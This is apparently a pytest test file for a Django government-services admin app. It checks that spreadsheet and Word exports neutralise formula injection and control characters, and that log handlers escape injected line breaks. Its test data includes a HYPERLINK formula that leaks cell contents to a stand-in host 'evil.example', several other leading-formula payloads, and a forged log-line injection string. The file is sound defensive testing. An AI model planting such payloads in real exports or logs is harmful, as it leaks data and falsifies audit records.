"""Issue 11 point 3: what staff or visitors typed reaches the one export path as data, never as a live
formula, and a control character anywhere does not make the export fail for everyone."""

import logging
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from factories import LegacyAppFactory, org
from openpyxl import load_workbook

from ganfutong_admin.core.exports import safe_text, workbook_bytes
from ganfutong_admin.core.logfilters import EscapeControlCharacters
from services.models import Service

pytestmark = pytest.mark.django_db



def ServiceFactory(**fields):  # noqa: N802 (reads like the factories of tests/services)
    return Service.objects.create(category="public_service", entry_url=f"https://gft.example.invalid/{fields['code']}",
                                  **fields)


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def exported(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(BytesIO(b"".join(response.streaming_content))).active


def cells_of(sheet):
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(sheet):
    assert [c.coordinate for c in cells_of(sheet) if c.data_type == "f"] == []


def test_failed_login_with_a_control_character_reaches_the_security_log_export(client, people, web):
    client.post(reverse("accounts:login"), {"username": "a\x07", "password": "wrong"}, REMOTE_ADDR="10.1.2.3")
    client.post(reverse("accounts:login"), {"username": "\t=1+1", "password": "wrong"}, REMOTE_ADDR="10.1.2.3")
    sheet = exported(web(people["audit_admin"]).get(reverse("audit:event-list"), {"export": "xlsx"}))
    usernames = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "a\\x07" in usernames  # visible to the auditor, not dropped and not a broken file
    assert "'=1+1" in usernames  # the login form strips the tab
    assert_no_formula(sheet)


def test_service_names_are_text_in_the_catalog_export(people, web):
    ServiceFactory(owner_org=org("360102"), name=HYPERLINK, code="360102-X-0001")
    ServiceFactory(owner_org=org("360102"), name="ctrl\u0001名称", code="360102-X-0002")
    ServiceFactory(owner_org=org("360102"), name="@SUM(1+1)", code="360102-X-0003")
    ServiceFactory(owner_org=org("360102"), name="-2+3", code="360102-X-0004")
    ServiceFactory(owner_org=org("360102"), name="\r+cmd", code="360102-X-0005")
    sheet = exported(web(people["province_reviewer"]).get(reverse("services:service-list"), {"export": "xlsx"}))
    names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names["360102-X-0001"] == "'" + HYPERLINK
    assert names["360102-X-0002"] == "ctrl\\x01名称"
    assert names["360102-X-0003"] == "'@SUM(1+1)"
    assert names["360102-X-0004"] == "'-2+3"
    assert names["360102-X-0005"] == "'\r+cmd"
    assert_no_formula(sheet)
    assert all(c.data_type in {"s", "n", "d"} for c in cells_of(sheet) if c.value is not None)


def test_legacy_app_name_is_text_in_the_province_export(people, web):
    LegacyAppFactory(name=HYPERLINK, migration_plan="+86 计划\x0b")
    sheet = exported(web(people["province_reviewer"]).get(reverse("channel_integration:legacyapp-list"),
                                                          {"export": "xlsx"}))
    [row] = list(sheet.iter_rows(min_row=2, values_only=True))
    assert row[0] == "'" + HYPERLINK
    assert row[-1] == "'+86 计划\\x0b"
    assert_no_formula(sheet)


@pytest.mark.parametrize(("value", "expected"), [
    ("普通文本", "普通文本"),
    ("a=b", "a=b"),  # only a leading formula character matters
    (" =1", " =1"),
    ("\n=1", "\n=1"),  # a line feed is a legal character, and no spreadsheet starts a formula after it
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("x\x00y\x1fz\x7f", "x\\x00y\\x1fz\\x7f"),
    ("\x01=1", "\\x01=1"),
])
def test_safe_text(value, expected):
    assert safe_text(value) == expected


def test_every_illegal_character_makes_a_file_openpyxl_reads():
    every = "".join(chr(c) for c in range(0x20)) + "\x7f\ufffe"
    data = workbook_bytes([("=label", lambda r: r)], [every, "=1"], "t")
    sheet = load_workbook(BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("'=label",) and rows[2] == ("'=1",)
    assert "\\x07" in rows[1][0] and "\t" in rows[1][0] and "\n" in rows[1][0]
    assert_no_formula(sheet)


def test_log_lines_escape_control_characters():
    stream = StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(EscapeControlCharacters())
    logger = logging.getLogger("tests.badinput.logsafe")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("login failed for %s", "a\x07\r\n[INFO] admin logged in")
    finally:
        logger.removeHandler(handler)
    assert stream.getvalue() == "login failed for a\\x07\\x0d\\x0a[INFO] admin logged in\n"


def test_the_configured_handlers_escape_control_characters():
    from django.conf import settings

    for name in ("console", "django.server"):
        assert "escape_controls" in settings.LOGGING["handlers"][name]["filters"]
    server = logging.getLogger("django.server")
    assert any(isinstance(f, EscapeControlCharacters) for h in server.handlers for f in h.filters)
    assert any(isinstance(f, EscapeControlCharacters) for h in logging.getLogger().handlers for f in h.filters)


def test_the_word_path_holds_control_characters_too():
    from datetime import date

    import docx

    from ganfutong_admin.core.documents import OfficialDocument, Section, document_bytes

    document = OfficialDocument(
        issuer="江西省政务服务管理办公室", number="赣政务〔2026〕13号", title="关于ctrl\u0001服务的通报",
        sections=[Section("一、情况", ["用户名 a\x07 多次登录失败。"])], date=date(2026, 12, 3),
        tables=[("附表", ["服务", "说明"], [["ctrl\u0001", "a\x07"]])],
    )
    opened = docx.Document(BytesIO(document_bytes(document)))
    texts = [p.text for p in opened.paragraphs]
    assert "关于ctrl\\x01服务的通报" in texts and "用户名 a\\x07 多次登录失败。" in texts
    assert [c.text for c in opened.tables[0].rows[1].cells] == ["ctrl\\x01", "a\\x07"]
